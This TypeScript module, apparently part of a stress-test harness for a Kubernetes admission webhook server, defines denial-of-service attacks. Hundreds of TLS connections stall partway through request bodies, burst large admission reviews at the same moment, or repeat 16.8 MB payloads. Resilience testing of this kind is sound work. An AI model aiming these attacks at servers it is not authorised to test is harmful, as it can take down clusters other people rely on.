import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { gatherCrowd } from './crowd.ts';
import { headOf, requestOf, reviewOf, reviewOfMany } from './request.ts';
import { askAgain, openTls } from './socket.ts';

const mebibyte = 1024 * 1024;

/** Sends all of a body but its last bytes. */
function stall(socket: Socket, length: number): void {
  socket.write(headOf(length));
  socket.write(Buffer.alloc(length - 6, ' '));
}

/** What a real API server sends for a Pod of 1.4 MB that is updated: 16.8 MB. */
function largestReview(): string {
  const containers = [
    { name: 'a', image: 'busybox', env: [{ name: 'X', value: '<'.repeat(2.8e6) }] },
  ];
  return reviewOf(containers).replaceAll('<', '\\u003c');
}

/** A little less than what a small body may have. */
const firstReview = requestOf(reviewOfMany(1_200, (index) => `k8s.gcr.io/pause:${index}`));
const burstInterval = 5_000;

/** Returns the time until all connections send, in milliseconds. */
function burstAt(): number {
  return burstInterval - (Date.now() % burstInterval);
}

/** Lists attacks with bodies that are large, or do not end. */
export const bodyAttacks: readonly Attack[] = [
  {
    name: 'stalled-bodies',
    summary: '300 connections send 1 MiB of a body and stall before its end',
    begin: (target) =>
      gatherCrowd(target, {
        size: 300,
        open: openTls,
        use: (socket) => stall(socket, mebibyte),
        reads: true,
      }),
  },
  {
    name: 'bursts',
    summary: '800 connections send their first review, of 1,200 images, in one moment',
    begin: (target) =>
      gatherCrowd(target, {
        size: 800,
        open: openTls,
        use: (socket) => {
          const timer = setTimeout(() => socket.write(firstReview), burstAt());
          socket.once('close', () => clearTimeout(timer));
        },
        reads: true,
      }),
  },
  {
    name: 'stalled-large-bodies',
    summary: '30 connections send 16 MiB of a body and stall before its end',
    begin: (target) =>
      gatherCrowd(target, {
        size: 30,
        open: openTls,
        use: (socket) => stall(socket, 16 * mebibyte),
        reads: true,
      }),
  },
  {
    name: 'large-bodies',
    summary: '30 connections send reviews of 16.8 MB, one after the other',
    begin: (target) => {
      const request = requestOf(largestReview());
      return gatherCrowd(target, {
        size: 30,
        open: openTls,
        use: (socket) => askAgain(socket, request),
        reads: true,
      });
    },
  },
];
